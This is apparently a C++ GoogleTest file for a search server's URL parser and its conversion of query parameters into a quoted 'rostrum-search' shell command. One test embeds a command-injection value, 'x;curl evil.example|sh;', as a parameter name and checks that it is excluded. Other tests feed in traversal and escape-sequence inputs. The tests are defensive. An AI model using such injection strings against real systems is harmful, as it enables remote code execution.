#include "searcher/server/http/url.hpp"

#include <gtest/gtest.h>

#include "schemas/base/error.hpp"
#include "searcher/analysis/base/analysis.hpp"
#include "searcher/server/routes/url_request.hpp"

namespace rostrum {
namespace {

TEST(Url, IsTakenApartAndDecoded) {
  const Url url = read_target("/a%20b?q=%22mine+ban%22&country=C%C3%B4te&empty=&&last");
  EXPECT_EQ(url.path, "/a b");
  ASSERT_EQ(url.parameters.size(), 4U);
  EXPECT_EQ(first_of(url.parameters, "q"), "\"mine ban\"");
  EXPECT_EQ(first_of(url.parameters, "country"), "Côte");
  EXPECT_EQ(url.parameters[3].name, "last");
  EXPECT_EQ(read_target("/a+b").path, "/a+b") << "a plus is a blank in parameters alone";
  EXPECT_EQ(first_of(read_target("/?q=one%0D%0Atwo").parameters, "q"), "one  two");
}

TEST(Url, IsRefusedWhereItIsNone) {
  const char* targets[] = {"",      "x",          "http://elsewhere/", "*",
                           "/?q=%", "/?q=%4",     "/?q=%zz",           "/?q=%FF",
                           "/%00",  "/?q=%1B[0m", "/?q=%ED%A0%80",     "/%C0%AE%C0%AE/"};
  for (const char* target : targets) EXPECT_THROW((void)read_target(target), Error) << target;
  std::string many = "/?";
  for (int i = 0; i < 201; ++i) many += "a=1&";
  EXPECT_THROW((void)read_target(many), Error);
}

TEST(Url, WhatCanBeReadOfItIs) {
  const UrlParameters read = readable_parameters("/search?q=mines&country=%zz&%ff=1&x&lang=f%72#p");
  EXPECT_EQ(query_string(read), "?q=mines&x=&lang=fr");
  EXPECT_TRUE(readable_parameters("no path").empty());
}

TEST(Url, IsWrittenSoThatItIsReadAgain) {
  const UrlParameters parameters = {{"q", "a&b=c%+\"<\n>"}, {"country", "Türkiye 核"}};
  const Url again = read_target("/search" + query_string(parameters));
  EXPECT_EQ(first_of(again.parameters, "q"), "a&b=c%+\"< >");
  EXPECT_EQ(first_of(again.parameters, "country"), "Türkiye 核");
  EXPECT_EQ(query_string({}), "");
}

SearchRequest request_of(const char* target) {
  const GivenValues given = read_all_parameters(read_target(target).parameters, query_parameters());
  SearchRequest request = request_from(given, &Thesaurus::builtin());
  read_paging(given, request);
  return request;
}

TEST(UrlRequest, HasTheNamesOfTheFlags) {
  const SearchRequest request = request_of(
      "/?q=mines&country=NOR&country=CHE&member_of=EU&language=fr&from=2020&any=true"
      "&sort=newest&limit=5&facets=country,year&facets=topic&snippets=");
  EXPECT_EQ(request.text, "mines");
  ASSERT_EQ(request.filters.size(), 4U);
  EXPECT_EQ(request.filters[0].value, "NOR");
  EXPECT_EQ(request.filters[1].value, "CHE");
  EXPECT_EQ(request.filters[2].field, "member_of");
  EXPECT_EQ(request.filters[3].field, "lang");
  EXPECT_TRUE(request.any);
  EXPECT_EQ(request.sort, SortBy::Newest);
  EXPECT_EQ(request.limit, 5U);
  EXPECT_EQ(request.snippets, SearchRequest{}.snippets) << "without a value it is not given";
  EXPECT_EQ(request.facets, (std::vector<std::string>{"country", "year", "topic"}));
}

TEST(UrlRequest, NamesTheParameterThatIsWrong) {
  const std::pair<const char*, const char*> cases[] = {
      {"/?limit=ten", "limit: 'ten' is no whole number from 0 to 10000; write digits alone"},
      {"/?limit=-1", "limit: '-1' is no whole number from 0 to 10000; write digits alone"},
      {"/?limit=99999999999999999999999",
       "limit: '99999999999999999999999' is not within 0 and 10000"},
      {"/?q=a&q=b", "q: it stands there twice; keep one of them"},
      {"/?any=maybe", "any: 'maybe' is neither true nor false"},
      {"/?sort=best", "sort: 'best' is none of: relevance, newest, oldest"},
      {"/?facets=none,year", "facets: none stands alone"},
  };
  for (const auto& [target, message] : cases) {
    try {
      (void)request_of(target);
      ADD_FAILURE() << target;
    } catch (const OptionError& error) {
      EXPECT_STREQ(error.what(), message);
    }
  }
  EXPECT_THROW((void)request_of("/?q=a&colour=red"), OptionError);
}

TEST(UrlRequest, TheCommandCanBeTyped) {
  const Url url = read_target("/x?q=it%27s+%24HOME&country=NOR&never=true&any=false&rows=group");
  const std::vector<Option> matrix = analysis_parameters(*find_analysis("matrix"));
  EXPECT_EQ(command_of("matrix", url.parameters, matrix, {first_of(url.parameters, "q")}),
            "rostrum-search matrix --country NOR --never --rows group 'it'\\''s $HOME'");
  const std::vector<Option> trend = analysis_parameters(*find_analysis("trend"));
  EXPECT_EQ(command_of("trend", {}, trend, {"-mines"}), "rostrum-search trend -- -mines");
  EXPECT_EQ(command_of("trend", {{"also", "-country:NOR"}}, trend, {"mines"}),
            "rostrum-search trend --also=-country:NOR mines");
}

TEST(UrlRequest, OnlyKnownParametersGetIntoTheCommand) {
  const Url url = read_target("/trend?q=mines&x%3Bcurl+evil.example%7Csh%3B=1&rows=group&by=year");
  EXPECT_EQ(
      command_of("trend", url.parameters, analysis_parameters(*find_analysis("trend")), {"mines"}),
      "rostrum-search trend --by year mines");
}

TEST(UrlRequest, AParameterThatIsNotKnownIsToldWithTheNearest) {
  const auto told = [](const char* name) {
    try {
      (void)read_all_parameters({{name, "1"}}, question_parameters());
    } catch (const OptionError& error) {
      return error.name() + "|" + error.what();
    }
    return std::string();
  };
  EXPECT_EQ(told("contry"),
            "contry|contry: there is no such parameter here; did you mean 'country'?");
  EXPECT_NE(told("x;y").find("; one of: "), std::string::npos);
}

TEST(UrlRequest, ThePageBeforeIsWithinTheHits) {
  EXPECT_EQ(previous_offset(20, 10, 25), 10U);
  EXPECT_EQ(previous_offset(5, 10, 25), 0U);
  EXPECT_EQ(previous_offset(500, 10, 17), 10U);
  EXPECT_EQ(previous_offset(500, 10, 20), 10U);
  EXPECT_EQ(previous_offset(500, 10, 0), 0U);
}

}  // namespace
}  // namespace rostrum
